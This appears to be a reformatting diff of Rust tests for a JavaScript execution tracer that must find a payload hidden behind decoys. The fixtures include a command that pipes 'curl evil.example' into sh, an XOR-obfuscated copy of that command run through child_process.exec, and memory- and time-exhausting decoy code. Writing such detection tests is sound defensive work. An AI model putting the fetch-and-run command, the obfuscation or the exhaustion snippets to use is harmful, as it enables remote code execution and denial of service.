@@ -7,7 +7,8 @@ use super::{does, trace_of, trace_one};
 
 const PAYLOAD: &str = "require('child_process').exec('curl evil.example|sh');";
 /// Text that a loop has to decode before it is known.
-const DECODED: &str = "const k = [98,116,115,109,33,100,119,104,109,47,100,121,96,108,113,109,100,125,114,105];
+const DECODED: &str =
+    "const k = [98,116,115,109,33,100,119,104,109,47,100,121,96,108,113,109,100,125,114,105];
 let t = ''; for (let i = 0; i < k.length; i++) { t += String.fromCharCode(k[i] ^ 1) }
 require('child_process').exec(t);";
 const LONG_LOOP: &str = "let n = 0; for (let i = 0; i < 1e9; i++) { n += i }\n";
@@ -28,8 +29,9 @@ fn nest(open: &str, inner: &str, close: &str, levels: usize) -> String {
 
 #[test]
 fn what_stands_behind_a_decoy_is_found() {
-    let doubling: String =
-        (1..40).map(|at| format!("function a{at}(x) {{ a{0}(x + 'l'); a{0}(x + 'r') }}\n", at - 1)).collect();
+    let doubling: String = (1..40)
+        .map(|at| format!("function a{at}(x) {{ a{0}(x + 'l'); a{0}(x + 'r') }}\n", at - 1))
+        .collect();
     let first = "function a0(x) { return x }\n";
     let texts = "const s = []; for (let i = 0; i < 100000; i++) s.push('x'.repeat(1000000));\n";
     for (what, decoy) in [
@@ -40,7 +42,10 @@ fn what_stands_behind_a_decoy_is_found() {
         ("calls that double, with functions", format!("{first}{doubling}a39(a1);\n")),
         ("text", texts.to_owned()),
         ("an array", format!("const a = [{}];\n", "[1,'x'],".repeat(100_000))),
-        ("an array that is mapped", "[...'x'.repeat(1e6)].map(x => [x, x]).forEach(x => x.push(x));\n".to_owned()),
+        (
+            "an array that is mapped",
+            "[...'x'.repeat(1e6)].map(x => [x, x]).forEach(x => x.push(x));\n".to_owned(),
+        ),
         ("blocks", nest("{", "", "}", 5_000)),
         ("if", nest("if (a) {", "", "}", 5_000)),
         ("try", nest("try {", "", "} catch (e) {}", 3_000)),
@@ -96,7 +101,9 @@ fn a_loop_that_is_not_run_to_its_end_decides_nothing() {
         format!("{LONG_LOOP} while (n > 1e15) {{ {PAYLOAD} }}"),
         format!("(() => {{ {LONG_LOOP} if (n < 1e15) return; {PAYLOAD} }})()"),
         format!("try {{ {LONG_LOOP} if (n < 1e15) throw 1; }} finally {{ }} {PAYLOAD}"),
-        format!("let n = 0; const f = () => {{ n++ }}; for (let i = 0; i < 1e9; i++) f(); if (n === 1e9) {{ {PAYLOAD} }}"),
+        format!(
+            "let n = 0; const f = () => {{ n++ }}; for (let i = 0; i < 1e9; i++) f(); if (n === 1e9) {{ {PAYLOAD} }}"
+        ),
         format!("let n = 0; {array}.forEach(x => {{ n += x }}); if (n === 60000) {{ {PAYLOAD} }}"),
         format!("let n = 0; for (const x of {array}) n += x; if (n === 60000) {{ {PAYLOAD} }}"),
     ] {
@@ -113,7 +120,8 @@ fn one_file_does_not_use_up_what_another_needs() {
         assert!(runs(&trace) && is_told(&trace), "{one}");
     }
     let names: Vec<String> = (0..300).map(|at| format!("f{at}.js")).collect();
-    let mut files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), LONG_LOOP)).collect();
+    let mut files: Vec<(&str, &str)> =
+        names.iter().map(|name| (name.as_str(), LONG_LOOP)).collect();
     files.push(("z.js", DECODED));
     assert!(runs(&trace_of(&files)));
     let texts = "let s = []; for (let i = 0; i < 100000; i++) s.push('x'.repeat(1000000) + i);";
